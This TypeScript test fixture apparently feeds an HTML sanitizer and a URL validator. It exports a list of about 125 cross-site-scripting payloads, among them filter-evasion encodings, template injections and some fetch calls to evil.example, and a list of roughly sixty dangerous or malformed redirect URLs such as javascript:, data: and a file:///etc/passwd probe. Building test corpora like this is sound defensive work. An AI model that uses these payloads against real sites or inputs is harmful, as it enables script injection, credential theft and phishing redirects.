/** A hundred ways to make a text run as a script, and sixty to make a link lead elsewhere. Each sets `window.pwned` where it works. */

const CALLS = ['window.pwned=1', 'top.pwned=1', 'alert(1)', "fetch('https://evil.example/')"]
const TAGS = [
  '<script>CALL</script>', '</script><script>CALL</script>', '<SCRIPT>CALL</SCRIPT>', '<scr<script>ipt>CALL</script>', '<script/src=data:,CALL>', '<script\u0000>CALL</script>',
  '<img src=x onerror=CALL>', '<img src=x onerror="CALL">', "<img/src='x'/onerror='CALL'>", '<svg onload=CALL>', '<svg><script>CALL</script></svg>', '<svg><animate onbegin=CALL attributeName=x>',
  '<body onload=CALL>', '<iframe src="javascript:CALL">', '<iframe srcdoc="<script>parent.pwned=1</script>">', '<details open ontoggle=CALL>', '<input autofocus onfocus=CALL>', '<video><source onerror=CALL>',
  '<math><mi xlink:href="javascript:CALL">x</mi></math>', '<object data="javascript:CALL">', '<embed src="javascript:CALL">', '<form action="javascript:CALL"><button>x</button></form>', '<a href="javascript:CALL">x</a>',
  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css"</style>',
  '"><script>CALL</script>', "'><script>CALL</script>", '" onmouseover="CALL" x="', "' onfocus='CALL' autofocus='", '" autofocus onfocus=CALL x="', '`onmouseover=CALL`', '" style="background:url(https://evil.example/)', '--><script>CALL</script>',
  '</title><script>CALL</script>', '</style><script>CALL</script>', '</textarea><script>CALL</script>', '</noscript><script>CALL</script>', '</main><script>CALL</script>', '<!--<script>CALL//-->', '<![CDATA[<script>CALL</script>]]>', '<?xml version="1.0"?><script>CALL</script>',
  '{{constructor.constructor("CALL")()}}', '${CALL}', '#{CALL}', '<%= CALL %>', '[[${CALL}]]', '&lt;script&gt;CALL&lt;/script&gt;', '&#60;script&#62;CALL&#60;/script&#62;', '\\u003cscript\\u003eCALL\\u003c/script\\u003e', '%3Cscript%3ECALL%3C/script%3E', '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '\u202e<script>CALL</script>', '\u2028<script>CALL</script>', '<\u200bscript>CALL</script>', '\ufeff<script>CALL</script>', '＜script＞CALL＜/script＞',
  '<template><script>CALL</script></template>', '<noscript><p title="</noscript><img src=x onerror=CALL>">', '<svg><style><img src=x onerror=CALL></style>', '<math><annotation-xml encoding="text/html"><script>CALL</script>', '<table><td background="javascript:CALL">',
  '<p style="animation:x" onanimationstart=CALL>', '<marquee onstart=CALL>', '<audio src=x onerror=CALL>', '<select autofocus onfocus=CALL>', '<keygen autofocus onfocus=CALL>', '<isindex action="javascript:CALL">', '<portal src="javascript:CALL">',
]
export const INJECTIONS: readonly string[] = [...TAGS, ...TAGS.slice(0, 50)].map((tag, i) => tag.replaceAll('CALL', CALLS[(i + Math.floor(i / TAGS.length)) % CALLS.length]!))

export const REDIRECTS: readonly string[] = [
  'javascript:window.pwned=1', 'JaVaScRiPt:window.pwned=1', ' javascript:window.pwned=1', '\tjavascript:window.pwned=1', 'java\nscript:window.pwned=1', 'java\tscript:window.pwned=1', '\u0001javascript:window.pwned=1', 'javascript&colon;window.pwned=1', '&#106;avascript:window.pwned=1',
  'javascript://shop.example/%0awindow.pwned=1', 'javascript:/*https://shop.example*/window.pwned=1', 'jav&#x0A;ascript:window.pwned=1', 'data:text/html,<script>window.pwned=1</script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==', 'DATA:text/html,x', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://shop.example/1',
  'about:blank', 'view-source:https://shop.example', 'filesystem:https://shop.example/x', 'intent://shop.example#Intent;scheme=https;end', 'mailto:a@b.example', 'tel:+380', 'sms:+380', 'ftp://shop.example/', 'ws://shop.example/', 'wss://shop.example/', 'gopher://shop.example/', 'ssh://shop.example',
  'http://shop.example/', 'HTTP://shop.example/', 'http:shop.example', '//evil.example', '///evil.example', '////evil.example', '\\\\evil.example', '/\\evil.example', '\\/evil.example', '/evil', './evil', '../evil', '?evil', '#evil', 'evil.example', 'evil',
  'https://user:pass@evil.example/', 'https://shop.example@evil.example/', 'https://shop.example:pass@evil.example', 'https://@', 'https://', 'https:', 'https:///', 'https://%00', 'https:// ', 'https://exa mple', 'https://[::1', 'https://evil.example:99999', '', ' ', 'null', 'undefined', '"><script>window.pwned=1</script>', "' onclick='window.pwned=1",
]
